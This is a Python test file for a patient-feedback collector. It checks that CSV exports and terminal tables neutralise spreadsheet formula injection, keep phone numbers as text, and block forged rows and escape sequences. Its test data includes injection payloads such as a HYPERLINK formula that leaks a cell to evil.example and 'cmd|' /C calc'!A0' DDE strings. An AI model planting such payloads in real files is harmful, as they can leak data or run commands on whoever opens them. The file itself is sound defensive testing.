"""What the collector writes for people (issue "No input stops or subverts
anything"): CSV files a manager opens in a spreadsheet, and tables printed to
a terminal.  A patient's comment, a device or an edge cannot make a cell run
as a formula, turn a phone number into a number, split a record over rows,
or forge rows of a terminal table; the report's figures stay as they are."""

from __future__ import annotations

import argparse
import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from collector import cli
from collector.reports import callback_list, csv_cell, loyalty_index, text_cell
from tests.test_reports import TZ, answer, ms, press

HEADER = ["time", "doctor", "phone", "comment", "status", "handled by", "handled at", "",
          "id"]
COMMENTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "Waited two hours.\nThe doctor was kind.\r\nPlease call, \"evenings\", thanks",
    "fine",
]


def _emit(tmp_path: Path, header: list[str], rows: list[list[Any]]) -> list[list[str]]:
    out = tmp_path / "out.csv"
    cli._emit(argparse.Namespace(csv=str(out)), header, rows)
    with out.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _callbacks() -> list[Any]:
    rows = [answer(f"2026-11-23 {9 + i:02d}:00", "no", phone=f"+7999123456{i}", comment=c)
            for i, c in enumerate(COMMENTS)]
    return callback_list(rows, {}, now_ms=ms("2026-11-23 22:00"), stale_after_s=10 ** 9,
                         tz=TZ)


def test_the_callbacks_csv_runs_no_formula_keeps_phones_text_and_one_row_per_record(
        tmp_path: Path) -> None:
    got = _emit(tmp_path, HEADER, [r.as_list() for r in _callbacks()])
    assert got[0] == HEADER
    records = got[1:]
    assert len(records) == len(COMMENTS)  # the multi-line comment did not split its record
    by_comment = {r[3]: r for r in records}
    for comment in COMMENTS:
        neutral = comment.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r")
        # A tab or CR is a separator too: what follows it is neutralised as well.
        cell = f"'{comment}".replace("\t=", "\t'=").replace("\r=", "\r'=") if neutral \
            else comment
        assert cell in by_comment, comment
    for r in records:
        assert r[2].startswith("'+7999123456")  # text, not the number 7.99e10
        assert r[2][1:].lstrip("+").isdigit()
        assert r[0][:1].isdigit()  # dates and ids untouched
        for cell in r:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), r


def test_the_report_csv_figures_are_unchanged(tmp_path: Path) -> None:
    rows = [press("2026-11-23 09:00", "bad", op="=cmd|' /C calc'!A0"),
            press("2026-11-23 09:05", "bad", op="=cmd|' /C calc'!A0"),
            press("2026-11-23 09:10", "good", op="=cmd|' /C calc'!A0"),
            press("2026-11-23 09:00", "good", op="op-2")]
    report = loyalty_index(rows, by="operator", period="day", tz=TZ,
                           start=date(2026, 11, 23), end=date(2026, 11, 23))
    header = ["operator", "day", "good", "neutral", "bad", "presses", "index"]
    got = _emit(tmp_path, header, [r.as_list() for r in report])
    assert got == [header,
                   ["'=cmd|' /C calc'!A0", "2026-11-23", "1", "0", "2", "3", "-33.3"],
                   ["op-2", "2026-11-23", "1", "0", "0", "1", "100.0"]]


@pytest.mark.parametrize(("value", "cell"), [
    (-33.3, -33.3), (7, 7), (None, ""), ("-33.3", "-33.3"), ("-1+2", "'-1+2"),
    ("+4917012345", "'+4917012345"), ("@x", "'@x"), ("a=b", "a=b"), ("", "")])
def test_csv_cell(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def test_terminal_tables_cannot_forge_rows_or_drive_the_terminal(
        capsys: pytest.CaptureFixture[str]) -> None:
    forged = "ok\n2026-11-23 08:00  dr-a  +49000  fake row\x1b[2J\x1b[31mred\u202eevil\tx"
    assert text_cell(forged) == "ok\u23ce2026-11-23 08:00  dr-a  +49000  fake row[2J[31mred" \
        "evil x"
    cli._emit(argparse.Namespace(csv=None), ["comment", "status"], [[forged, "new"],
                                                                     ["a\r\nb", "called"]])
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 4  # header, rule, two rows
    assert "\x1b" not in "".join(lines)
    assert lines[3].startswith("a\u23ceb ")


def test_the_callbacks_command_writes_through_the_same_writer(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`callbacks --csv -` to standard output: the same neutralised cells."""
    buf = io.StringIO()
    monkeypatch.setattr("sys.stdout", buf)
    cli._emit(argparse.Namespace(csv="-"), HEADER, [r.as_list() for r in _callbacks()])
    records = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert len(records) == 1 + len(COMMENTS)
    assert all(r[2].startswith("'+") for r in records[1:])


# -- issue 14, second round: phones without '+', separators of other locales ------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SEPARATORS = (",", ";", "\t", "|", "\n", "\r")  # what a spreadsheet may split a cell at


def _raw(tmp_path: Path, header: list[str], rows: list[list[Any]]) -> str:
    _emit(tmp_path, header, rows)
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as f:
        return f.read()


@pytest.mark.parametrize("phone", ["017012345678", "0049170123", "+4917012345678",
                                   "12345678901234567"])
def test_every_phone_stays_text_in_a_spreadsheet(tmp_path: Path, phone: str) -> None:
    """017012345678 was written bare: a spreadsheet read the number 17012345678."""
    rows = callback_list([answer("2026-11-23 09:00", "no", phone=phone)], {},
                         now_ms=ms("2026-11-23 10:00"), stale_after_s=3600, tz=TZ)
    (record,) = _emit(tmp_path, HEADER, [r.as_list() for r in rows])[1:]
    assert record[2] == f"'{phone}"
    assert text_cell(rows[0].as_list()[2]) == phone  # the terminal shows it as it is


@pytest.mark.parametrize("comment", ["ok;=1+2;", "thanks;=cmd|' /C calc'!A0;",
                                     "a,+1", "x\t@SUM(1)", "a| -2+3", "line\n=1+1",
                                     "ok; \"=1+2\"", "a;\t=1", "a,'=1"])
def test_no_cell_starts_a_formula_in_a_locale_that_splits_at_another_separator(
        tmp_path: Path, comment: str) -> None:
    """German Excel splits at ';': "ok;=1+2;" ran =1+2.  Every cell is quoted, and a
    formula start after any separator a locale may use gets the same quote."""
    rows = callback_list([answer("2026-11-23 09:00", "no", phone="+4915112345",
                                 comment=comment)], {}, now_ms=ms("2026-11-23 10:00"),
                         stale_after_s=3600, tz=TZ)
    raw = _raw(tmp_path, HEADER, [r.as_list() for r in rows])
    (record,) = list(csv.reader(io.StringIO(raw, newline="")))[1:]
    cell = record[3]
    assert cell == csv_cell(comment)  # read back as written
    for sep in SEPARATORS:
        for piece in cell.split(sep)[1:]:
            assert piece.lstrip(' "')[:1] not in FORMULA_START, (sep, piece)
    # Read naively at ';' (no quotes honoured), no piece starts a formula either.
    for piece in raw.replace("\r\n", ";").replace("\n", ";").split(";"):
        assert piece.lstrip(' "')[:1] not in ("=", "+", "@"), piece


def test_every_cell_is_quoted(tmp_path: Path) -> None:
    raw = _raw(tmp_path, ["a", "b", "c"], [["x", 7, -33.3], ["ok;=1+2;", "", None]])
    assert raw == '"a","b","c"\r\n"x","7","-33.3"\r\n"ok;\'=1+2;","",""\r\n'
    assert list(csv.reader(io.StringIO(raw, newline=""))) == [
        ["a", "b", "c"], ["x", "7", "-33.3"], ["ok;'=1+2;", "", ""]]


@pytest.mark.parametrize(("value", "cell"), [
    ("0042", "'0042"),  # a staff number: the spreadsheet would drop the zeros
    ("12345678901234567", "'12345678901234567"),  # beyond a double's 15 digits
    ("0", "0"), ("0.5", "0.5"), ("-0.5", "-0.5"), ("100.0", "100.0"), ("-100.0", "-100.0"),
    ("123456789012345", "123456789012345"),
    ("ok;=1+2;", "ok;'=1+2;"), ("a, -b", "a, '-b"), ("a;b", "a;b"), ("a-b", "a-b")])
def test_csv_cell_keeps_text_text(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell
